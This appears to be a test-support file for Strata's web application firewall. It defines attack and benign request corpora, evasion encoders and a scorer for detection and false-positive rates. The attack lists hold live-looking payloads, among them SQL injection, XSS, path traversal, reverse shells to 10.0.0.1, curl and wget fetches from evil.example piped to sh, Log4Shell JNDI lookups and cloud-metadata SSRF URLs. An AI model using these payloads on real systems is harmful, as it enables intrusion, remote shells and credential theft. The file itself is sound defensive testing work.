// Attack and benign corpora for the WAF, written for Strata's tests, plus the
// scorer that turns them into detection and false-positive rates (docs/waf.md).
import { createWafEngine, type Detection, type WafEngine, type WafEngineOptions, type HeadRequest } from '../src/waf/waf-engine.js';
import type { ParanoiaLevel } from '../src/waf/detector.js';
import { Packr } from 'msgpackr';
import { normalizeCollections, type Collection } from '../src/data/index.js';
import type { StrataSchema } from '../src/waf/strata-args.js';

export type Family = 'sqli' | 'xss' | 'traversal' | 'command' | 'template' | 'code' | 'ssrf' | 'protocol' | 'scanner';

/** One request to try: `query` (name=value), `json` / `msgpack` / `protobuf` (body field), `header`, `path`, `form`, `multipart-filename`, `xml` or a full head. */
export interface Sample {
  family: Family | 'benign';
  variant: string;
  where: 'query' | 'json' | 'msgpack' | 'protobuf' | 'header' | 'path' | 'form' | 'filename' | 'xml' | 'head';
  name?: string;
  value: string;
  head?: Partial<HeadRequest>;
  /** The request path (default `/api/items`, no route Strata knows); `/api/collections/posts/records` reaches the records list. */
  path?: string;
}

/** The collections the corpus requests meet on the records routes (and the anchor's Strata declares). */
export const CORPUS_COLLECTIONS = [
  { name: 'posts', fields: [{ name: 'title', type: 'text' }, { name: 'body', type: 'text' }, { name: 'content', type: 'text' }, { name: 'comment', type: 'text' }, { name: 'price', type: 'number' },
    { name: 'count', type: 'integer' }, { name: 'a', type: 'integer' }, { name: 'b', type: 'integer' }, { name: 'email', type: 'text' }, { name: 'name', type: 'text' }, { name: 'status', type: 'text' },
    { name: 'author', type: 'text' }, { name: 'tags', type: 'json' }, { name: 'published', type: 'date' }, { name: 'pinned', type: 'boolean' }],
    fullText: ['title', 'body'], rules: { list: '', view: '', create: '', update: '', delete: '' } },
];
const collections = new Map<string, Collection>(normalizeCollections(CORPUS_COLLECTIONS as never).map((c) => [c.name, c]));
export const CORPUS_SCHEMA: StrataSchema = { collections: () => collections };

const SQLI = [
  "' or 1=1--", "' OR '1'='1", "admin'--", "admin' #", "' or ''='", "1 or 1=1", "1' or '1'='1' -- ", "') or ('a'='a",
  "' UNION SELECT username, password FROM users--", "1 UNION ALL SELECT NULL,NULL,version()", "-1' union select 1,group_concat(table_name),3 from information_schema.tables--",
  "1; DROP TABLE users", "'; exec master..xp_cmdshell 'ping 10.0.0.1'--", "1; waitfor delay '0:0:5'--", "'; shutdown--",
  "1 AND SLEEP(5)", "' or sleep(5)#", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- ", "1 and benchmark(5000000,md5(1))", "'||pg_sleep(10)--",
  "' AND extractvalue(1,concat(0x7e,(select user())))-- ", "1 and updatexml(1,concat(0x7e,version()),1)", "1 AND 1=CONVERT(int,@@version)", "' and 1=cast((select version()) as int)--",
  "1' ORDER BY 5--", "1 order by 10,1--", "x' AND 1=(SELECT COUNT(*) FROM tabname); --", "' having 1=1--", "1' and ascii(substring((select database()),1,1))>64--",
  "x'='x", "1 and 1=2", "' or 'x'='x", "1' and '1'='1", "1' into outfile '/var/www/html/s.php'--", "-1 or 1=1", "(select 1)=1 and '1", "1+(select 1)",
];
const XSS = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert`1`>', '<body onload=alert(document.domain)>',
  '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(1)">click</a>', '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>',
  '"><script>alert(1)</script>', "'><img src=x onerror=prompt(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", '</script><script>alert(1)</script>',
  "';alert(String.fromCharCode(88,83,83));//", '"-alert(1)-"', "\\';alert(1);//", 'javascript:alert(document.cookie)', 'javascript://%0aalert(1)',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>', '<embed src=javascript:alert(1)>', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', '<div style="width:expression(alert(1))">',
  '{{constructor.constructor(\'alert(1)\')()}}', '<video><source onerror="alert(1)">', '<marquee onstart=alert(1)>', '<base href="javascript:/a/-alert(1)///////">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<x onclick=alert(1)>click', '<iframe srcdoc="<script>alert(1)</script>">',
];
const TRAVERSAL = [
  '../../../etc/passwd', '..\\..\\..\\windows\\win.ini', '....//....//....//etc/passwd', '../../../../../../proc/self/environ', '/etc/passwd', '/etc/shadow',
  'C:\\windows\\system32\\drivers\\etc\\hosts', '../../WEB-INF/web.xml', '../.env', '../../.git/config', '../../../var/log/apache2/access.log', 'php://filter/convert.base64-encode/resource=index.php',
  'file:///etc/passwd', 'phar://uploads/x.jpg/shell', 'zip://archive.zip#shell.php', '../../../../boot.ini', '/proc/self/cmdline', '../../config.php%00.jpg', 'expect://id', '..;/..;/admin',
];
const COMMAND = [
  '; cat /etc/passwd', '| id', '&& whoami', '|| uname -a', '`id`', '$(whoami)', '; ls -la /', '| nc 10.0.0.1 4444 -e /bin/sh', '127.0.0.1; sleep 10', '8.8.8.8 && ping -c 10 127.0.0.1',
  '; wget http://evil.example/x.sh -O /tmp/x.sh', '$(curl http://evil.example/x|sh)', '& dir C:\\', '| type C:\\windows\\win.ini', '& ipconfig /all', 'cmd /c whoami', 'powershell -enc SQBFAFgA',
  '& net user hacker P@ss /add', '%COMSPEC% /c dir', 'x\nid', '; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', '|| ping -n 21 127.0.0.1', ';{cat,/etc/passwd}', ';cat$IFS/etc/passwd', "; c'a't /etc/passwd",
];
const TEMPLATE = [
  '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{config.items()}}', "{{''.__class__.__mro__[1].__subclasses__()}}", '{{self.__init__.__globals__.__builtins__}}',
  "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "{% import os %}{{ os.system('id') }}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
  "#{T(java.lang.Runtime).getRuntime().exec('calc')}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
  '${jndi:ldap://evil.example/a}', '${jndi:rmi://evil.example:1099/x}', '${${lower:j}ndi:${lower:l}dap://evil.example/a}', '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}',
  '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.example/a}', '${env:AWS_SECRET_ACCESS_KEY}', '#set($x=$class.inspect("java.lang.Runtime"))', '*{T(java.lang.System).getenv()}',
];
const CODE = [
  '<?php system($_GET["c"]); ?>', '<?= `id` ?>', 'O:8:"stdClass":1:{s:4:"test";s:3:"abc";}', 'eval($_POST["x"])', "require('child_process').exec('id')",
  "process.mainModule.require('child_process').execSync('id')", 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZQ==', 'aced0005737200',
  'a:2:{i:0;O:4:"User":1:{s:5:"admin";b:1;}}', "this.constructor.constructor('return process')()",
];
const SSRF = [
  'http://127.0.0.1/admin', 'http://localhost:6379/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://metadata.google.internal/computeMetadata/v1/',
  'http://2130706433/', 'http://0x7f000001/', 'http://0177.0.0.1/', 'http://0x7f.1/', 'http://127.1/', 'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://[::ffff:7f00:1]/',
  'http://0/', 'http://evil.example@127.0.0.1:8080/', 'gopher://127.0.0.1:6379/_FLUSHALL', 'dict://127.0.0.1:11211/stats', 'file:///etc/passwd', 'http://169.254.170.2/v2/credentials',
  'http://100.100.100.200/latest/meta-data/', 'http://localtest.me/', 'http://127.0.0.1.nip.io/', 'http://[fd00:ec2::254]/latest/meta-data/',
];
const SCANNERS = ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'Fuzz Faster U Fool v2.0.0', 'gobuster/3.6', 'WPScan v3.8.24 (https://wpscan.com/wordpress-security-scanner)', 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
  'Wfuzz/3.1', 'commix/v3.8', 'Mozilla/5.0 zgrab/0.x', 'Acunetix-WebVulnerability-Scanner'];

type Evasion = { name: string; apply: (s: string) => string };
const enc = (s: string) => Array.from(Buffer.from(s, 'utf8')).map((b) => '%' + b.toString(16).padStart(2, '0')).join('');
const mixed = (s: string) => s.replace(/[a-z]/gi, (c, i: number) => (i % 2 ? c.toUpperCase() : c.toLowerCase()));
const EVASIONS: Record<string, Evasion[]> = {
  sqli: [
    { name: 'urlencoded', apply: enc }, { name: 'double-encoded', apply: (s) => enc(enc(s)) }, { name: 'mixed-case', apply: mixed },
    { name: 'commented', apply: (s) => s.replace(/ /g, '/**/') }, { name: 'split-whitespace', apply: (s) => s.replace(/ /g, '\n\t') }, { name: 'full-width', apply: (s) => s.replace(/'/g, '\uff07').replace(/=/g, '\uff1d') },
  ],
  xss: [
    { name: 'urlencoded', apply: enc }, { name: 'double-encoded', apply: (s) => enc(enc(s)) }, { name: 'mixed-case', apply: mixed },
    { name: 'split-whitespace', apply: (s) => s.replace(/ /g, '\n') }, { name: 'full-width', apply: (s) => s.replace(/</g, '\uff1c').replace(/>/g, '\uff1e') }, { name: 'null-byte', apply: (s) => s.replace(/<(\w)/, '<%00$1') },
  ],
  traversal: [
    { name: 'urlencoded', apply: enc }, { name: 'double-encoded', apply: (s) => enc(enc(s)) }, { name: 'mixed-case', apply: mixed },
    { name: 'overlong-utf8', apply: (s) => s.replace(/\//g, '%c0%af').replace(/\./g, '%c0%ae') }, { name: 'iis-unicode', apply: (s) => s.replace(/\//g, '%u2215').replace(/\.\./g, '%u002e%u002e') },
    { name: 'backslashes', apply: (s) => s.replace(/\//g, '\\') },
  ],
  command: [
    { name: 'urlencoded', apply: enc }, { name: 'double-encoded', apply: (s) => enc(enc(s)) }, { name: 'mixed-case', apply: mixed },
    { name: 'ifs', apply: (s) => s.replace(/(\w) /g, '$1${IFS}') }, { name: 'quoted', apply: (s) => s.replace(/\b(cat|id|whoami|uname|ls|nc|sleep|ping|wget|curl|dir|type|ipconfig|bash|net)\b/, (m) => m[0] + "''" + m.slice(1)) },
    { name: 'newline-separator', apply: (s) => s.replace(/^\s*(?:;|\|\||\||&&|&)/, '\n') },
  ],
  template: [{ name: 'urlencoded', apply: enc }, { name: 'double-encoded', apply: (s) => enc(enc(s)) }, { name: 'mixed-case', apply: mixed }, { name: 'spaced', apply: (s) => s.replace(/\{\{/g, '{{ ').replace(/\}\}/g, ' }}') }],
  code: [{ name: 'urlencoded', apply: enc }, { name: 'mixed-case', apply: mixed }],
  ssrf: [{ name: 'urlencoded', apply: enc }, { name: 'double-encoded', apply: (s) => enc(enc(s)) }, { name: 'mixed-case', apply: mixed }],
  scanner: [{ name: 'mixed-case', apply: mixed }],
};

function withVariants(family: Family, list: string[], where: Sample['where'], name: string): Sample[] {
  const out: Sample[] = [];
  for (const v of list) {
    out.push({ family, variant: 'plain', where, name, value: v });
    for (const e of EVASIONS[family] ?? []) {
      const ev = e.apply(v);
      if (ev !== v) out.push({ family, variant: e.name, where, name, value: ev });
    }
  }
  return out;
}

const PROTOCOL: Sample[] = [
  { family: 'protocol', variant: 'plain', where: 'head', value: 'CL+TE', head: { method: 'POST', headers: { host: 'a', 'content-length': '4', 'transfer-encoding': 'chunked', 'content-type': 'application/json' } } },
  { family: 'protocol', variant: 'obfuscated', where: 'head', value: 'TE obfuscated', head: { method: 'POST', headers: { host: 'a', 'transfer-encoding': 'xchunked', 'content-type': 'application/json' } } },
  { family: 'protocol', variant: 'obfuscated', where: 'head', value: 'TE list', head: { method: 'POST', headers: { host: 'a', 'transfer-encoding': 'chunked, identity', 'content-type': 'application/json' } } },
  { family: 'protocol', variant: 'plain', where: 'head', value: 'two CL', head: { method: 'POST', headers: { host: 'a', 'content-length': '4, 5' } } },
  { family: 'protocol', variant: 'plain', where: 'head', value: 'two Host', head: { headers: { host: 'a' }, rawHeaders: ['Host', 'a', 'Host', 'b'] } },
  { family: 'protocol', variant: 'plain', where: 'head', value: 'TRACE', head: { method: 'TRACE', headers: { host: 'a' } } },
  { family: 'protocol', variant: 'plain', where: 'head', value: 'odd content type', head: { method: 'POST', headers: { host: 'a', 'content-type': 'application/x-java-serialized-object' } } },
  { family: 'protocol', variant: 'plain', where: 'head', value: 'two charsets', head: { method: 'POST', headers: { host: 'a', 'content-type': 'application/json; charset=utf-8; charset=utf-7' } } },
  { family: 'protocol', variant: 'plain', where: 'head', value: 'utf-7', head: { method: 'POST', headers: { host: 'a', 'content-type': 'text/plain; charset=utf-7' } } },
  { family: 'protocol', variant: 'encoded', where: 'query', name: 'file', value: 'a%00b' },
  { family: 'protocol', variant: 'plain', where: 'header', name: 'x-custom', value: 'a\u0001b' },
  { family: 'protocol', variant: 'plain', where: 'head', value: 'many ranges', head: { headers: { host: 'a', range: 'bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21,22-23' } } },
  { family: 'protocol', variant: 'plain', where: 'query', name: 'x'.repeat(300), value: '1' },
];

export function attackCorpus(): Sample[] {
  return [
    ...withVariants('sqli', SQLI, 'query', 'id'),
    ...withVariants('xss', XSS, 'json', 'comment'),
    ...withVariants('traversal', TRAVERSAL, 'query', 'file'),
    ...withVariants('command', COMMAND, 'form', 'host'),
    ...withVariants('template', TEMPLATE, 'json', 'name'),
    ...withVariants('code', CODE, 'query', 'data'),
    ...withVariants('ssrf', SSRF, 'query', 'url'),
    ...PROTOCOL,
    ...withVariants('scanner', SCANNERS, 'header', 'user-agent'),
  ];
}

const BENIGN_TEXT = [
  "O'Brien", "D'Angelo", "Miles O'Neil-Smith", "It's a lovely day, isn't it?", "James' and John's books", "Rock 'n' roll", "The workers' union voted to select a new leader and drop the old rules",
  "Please select one option from the list and drop the rest", "Select your country", "Union Square, San Francisco", "I want to delete my account", "Update: the meeting is at 5pm; bring snacks",
  "drop-down menu", "SELECT * isn't a good idea in production, says the DBA", "Tom & Jerry", "Q&A session | 3pm", "rock & roll; jazz & blues", "AT&T", "5' 10\" tall",
  "I said 'yes' or 'no'", "\"hello world\" -spam", "\"foo\" OR \"bar\"", "title:\"annual report\" AND year:2023", "price >= 10 and price <= 20", "a < b && c > d", "1 + 1 = 2",
  "C:\\Users\\Public\\Documents", "Use ../ to go up one folder", "see ./docs/readme.md", "e.g. ~/projects/strata", "version 1.2.3 (build 45)", "50% off - today only!",
  "john.doe+newsletter@example.com", "First line\nSecond line", "café crème brûlée", "日本語のテキスト", "Ｆｕｌｌ－ｗｉｄｔｈ text", "emoji 🎉 party",
  "&lt;b&gt;bold&lt;/b&gt; is how you write bold", "Tom &amp; Jerry", "5 &lt; 7", "Use <b>bold</b> and <i>italic</i>", "<p>Hello <a href=\"https://example.com\">world</a></p>",
  "I <3 JavaScript", "x<y and y>z", "javascript: the good parts", "Call me at 555-0100 or email me", "sleep well, see you at 9",
  "Cats; dogs; birds", "He said \"stop\"; then he left", "cat pictures", "echo chamber", "ping me when ready", "type your name", "set the table",
  "The ${price} placeholder", "Hi {{name}}, welcome!", "Order #12345", "100% cotton", "Wait... what?", "sum(a, b) returns a+b", "if (a > b) { return a; }",
  "const x = `hello ${name}`;", "SELECT name, email FROM users WHERE id = ? — is this query safe?", "aGVsbG8gd29ybGQ=", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl",
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "#hashtag @mention", "$19.99 | free shipping", "3 < 5 > 4",
  "Smith, John (Jr.)", "Ünïcödé naïve résumé", "10/20/2023", "2023-10-20T10:00:00Z", "https://example.com/search?q=test&page=2", "--verbose flag", "-- signed, the team",
  "Read chapter 1-3; skip 4", "Best regards,\n-- \nAlice", "100 - 20 = 80", "one; two; three", "don't; won't; can't",
];
const BENIGN_JSON_CODE = [
  '```sql\nSELECT id, name FROM users WHERE active = 1 ORDER BY name;\n```', '```js\nconsole.log("hi"); run(x);\n```', '```bash\nnpm install && npm test\n```',
  '# Title\n\nSome *markdown* with `code` and a [link](https://example.com).', 'He wrote: "she said \\"hi\\" to me"', '{"nested": "{\\"a\\": \\"b\\"}"}',
  'Use the <code>&lt;div&gt;</code> element', 'function add(a, b) { return a + b; }', 'if x > 0 and y < 10: print("ok")', 'The UNION of sets A and B',
];
const BENIGN_UA = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'curl/8.4.0', 'okhttp/4.12.0', 'Googlebot/2.1 (+http://www.google.com/bot.html)', 'PostmanRuntime/7.35.0',
];
const BENIGN_URLS = ['https://example.com/page?x=1&y=2', 'https://cdn.example.org/images/cat.png', 'https://hooks.example.net/webhook/abc123', 'http://example.com:8080/path',
  '/dashboard?tab=settings', 'https://api.github.com/repos/owner/repo', 'https://en.wikipedia.org/wiki/SQL_injection', 'https://8.8.8.8/dns-query'];

export function benignCorpus(): Sample[] {
  const out: Sample[] = [];
  for (const v of BENIGN_TEXT) {
    out.push({ family: 'benign', variant: 'query', where: 'query', name: 'q', value: v });
    out.push({ family: 'benign', variant: 'json', where: 'json', name: 'comment', value: v });
  }
  for (const v of BENIGN_JSON_CODE) out.push({ family: 'benign', variant: 'json-code', where: 'json', name: 'content', value: v });
  for (const v of BENIGN_UA) out.push({ family: 'benign', variant: 'user-agent', where: 'header', name: 'user-agent', value: v });
  for (const v of BENIGN_URLS) out.push({ family: 'benign', variant: 'url-param', where: 'query', name: 'redirect_url', value: v });
  for (const v of ['report.pdf', 'my photo (1).jpg', "O'Brien CV.docx", 'résumé-final_v2.pdf']) out.push({ family: 'benign', variant: 'filename', where: 'filename', name: 'file', value: v });
  for (const v of ['Hello & welcome', "It's <fine>", 'a=1&b=2']) out.push({ family: 'benign', variant: 'form', where: 'form', name: 'message', value: v });
  out.push({ family: 'benign', variant: 'xml', where: 'xml', name: 'doc', value: "<note><to>O'Brien</to><body>select union drop &amp; more</body></note>" });
  return out;
}

const BASE_HEADERS = { host: 'app.example.com', 'user-agent': BENIGN_UA[0], accept: 'application/json', 'accept-language': 'en-US,en;q=0.9' };

export const DEFAULT_LIMITS: WafEngineOptions['limits'] = {
  maxArgs: 512, maxArgNameLength: 256, maxArgLength: 65_536, maxTotalArgLength: 1_048_576, maxHeaders: 100, maxHeaderLength: 8192,
  allowedMethods: ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'],
  allowedContentTypes: ['application/json', 'application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain', 'application/xml', 'text/xml', '*+json', '*+xml', 'application/octet-stream', 'application/x-protobuf', 'application/protobuf', 'application/x-msgpack', 'application/msgpack', 'application/avro', 'application/grpc', 'application/grpc-web', 'application/connect+proto'],
  maxDecodePasses: 3, maxBodyDepth: 64, maxBodyParts: 4096,
};

const packr = new Packr({ useRecords: false, variableMapSize: true });
const varint = (n: number): number[] => { const o: number[] = []; while (n > 127) { o.push((n % 128) | 128); n = Math.floor(n / 128); } o.push(n); return o; };

/** Protocol Buffers wire format of length-delimited fields (strings, nested messages). */
export function protoMessage(fields: Array<[number, string | Buffer]>): Buffer {
  return Buffer.concat(fields.map(([no, v]) => {
    const b = typeof v === 'string' ? Buffer.from(v, 'utf8') : v;
    return Buffer.concat([Buffer.from([...varint(no * 8 + 2), ...varint(b.length)]), b]);
  }));
}

/**
 * The samples whose payload is a parameter value (not protocol, scanner or header-bound
 * ones), moved into a request body of the given format under the same parameter name.
 */
export function asBodySamples(samples: Sample[], where: 'json' | 'msgpack' | 'protobuf'): Sample[] {
  return samples
    .filter((s) => s.where !== 'head' && s.where !== 'header' && s.family !== 'protocol' && s.family !== 'scanner')
    .map((s) => ({ ...s, where, name: s.name ?? 'value' }));
}

/** The engine the corpora are scored with; `cacheSize` turns on its cross-request value memo. */
export function corpusEngine(paranoia: ParanoiaLevel, engineName: 'crs' | 'legacy' = 'crs', cacheSize = 0): WafEngine {
  return createWafEngine({ mode: 'block', engine: engineName, paranoia, threshold: 5, limits: DEFAULT_LIMITS, schema: CORPUS_SCHEMA, cacheSize });
}

/** Score of one sample at a paranoia level (detections in every location added up). */
export function scoreSample(s: Sample, paranoia: ParanoiaLevel, engineName: 'crs' | 'legacy' = 'crs', engine: WafEngine = corpusEngine(paranoia, engineName)): { score: number; rules: string[]; detections: Detection[] } {
  const headers: Record<string, string> = { ...BASE_HEADERS };
  let url = s.path ?? '/api/items';
  const routeUrl = s.path === undefined ? '/api/items' : undefined;
  let body: unknown;
  let ct = '';
  let method = 'GET';
  let rawHeaders: string[] | undefined;
  const enc = (v: string) => (/%[0-9a-f]{2}/i.test(v) ? v : encodeURIComponent(v));
  switch (s.where) {
    case 'query': url += `?${s.name}=${enc(s.value)}`; break;
    case 'path': url = `/files/${s.value}`; break;
    case 'header': headers[s.name as string] = s.value; break;
    // on a records route the body is the record (REST) or the request message (Connect)
    case 'json': method = 'POST'; ct = 'application/json'; body = s.path !== undefined ? { [s.name as string]: s.value } : { post: { title: 'Hello', [s.name as string]: s.value, tags: ['a', 'b'] } }; break;
    case 'msgpack': method = 'POST'; ct = 'application/msgpack'; body = packr.pack({ post: { title: 'Hello', [s.name as string]: s.value, tags: ['a', 'b'] } }); break;
    case 'protobuf': method = 'POST'; ct = 'application/x-protobuf'; body = protoMessage([[1, protoMessage([[1, 'Hello'], [2, s.value], [3, 'a'], [3, 'b']])]]); break;
    case 'form': method = 'POST'; ct = 'application/x-www-form-urlencoded'; body = `${s.name}=${enc(s.value)}&submit=Send`; break;
    case 'filename': method = 'POST'; ct = 'multipart/form-data; boundary=XyZ'; body = `--XyZ\r\nContent-Disposition: form-data; name="${s.name}"; filename="${s.value}"\r\nContent-Type: application/octet-stream\r\n\r\nbinary\r\n--XyZ--\r\n`; break;
    case 'xml': method = 'POST'; ct = 'application/xml'; body = s.value; break;
    case 'head': {
      method = s.head?.method ?? 'GET';
      rawHeaders = s.head?.rawHeaders;
      for (const k of Object.keys(headers)) delete headers[k];
      Object.assign(headers, s.head?.headers ?? {});
      break;
    }
  }
  if (ct && s.where !== 'head') headers['content-type'] = ct;
  // a body comes with its length, as on the wire (CRS 920180 scores a POST without one)
  if (body !== undefined && s.where !== 'head') headers['content-length'] = String(typeof body === 'string' ? Buffer.byteLength(body) : Buffer.isBuffer(body) ? body.length : JSON.stringify(body).length);
  const det = engine.inspectHead({ method, url, httpVersion: '1.1', headers, rawHeaders }, routeUrl);
  if (body !== undefined) det.push(...engine.inspectBody(body, ct, { method, path: url.split('?', 1)[0], routeUrl }));
  return { score: engine.score(det), rules: det.map((d) => d.rule), detections: det };
}

export interface CorpusReport {
  detection: Record<string, Record<ParanoiaLevel, { detected: number; total: number }>>;
  falsePositives: Record<ParanoiaLevel, { flagged: number; total: number; samples: string[] }>;
  missed: Record<ParanoiaLevel, string[]>;
}

export function corpusReport(attacks: Sample[] = attackCorpus(), benign: Sample[] = benignCorpus(), engineName: 'crs' | 'legacy' = 'crs', levels: ParanoiaLevel[] = [1, 2, 3, 4]): CorpusReport {
  const detection: CorpusReport['detection'] = {};
  const missed = { 1: [], 2: [], 3: [], 4: [] } as CorpusReport['missed'];
  for (const s of attacks) {
    const fam = (detection[s.family] ??= { 1: { detected: 0, total: 0 }, 2: { detected: 0, total: 0 }, 3: { detected: 0, total: 0 }, 4: { detected: 0, total: 0 } });
    for (const pl of levels) {
      fam[pl].total++;
      if (scoreSample(s, pl, engineName).score >= 5) fam[pl].detected++;
      else missed[pl].push(`${s.family}/${s.variant}: ${JSON.stringify(s.value).slice(0, 100)}`);
    }
  }
  const falsePositives = { 1: { flagged: 0, total: 0, samples: [] }, 2: { flagged: 0, total: 0, samples: [] }, 3: { flagged: 0, total: 0, samples: [] }, 4: { flagged: 0, total: 0, samples: [] } } as CorpusReport['falsePositives'];
  for (const s of benign) {
    for (const pl of levels) {
      falsePositives[pl].total++;
      const r = scoreSample(s, pl, engineName);
      if (r.score >= 5) { falsePositives[pl].flagged++; falsePositives[pl].samples.push(`${s.variant}: ${JSON.stringify(s.value).slice(0, 80)} -> ${r.rules.join(',')}`); }
    }
  }
  return { detection, falsePositives, missed };
}
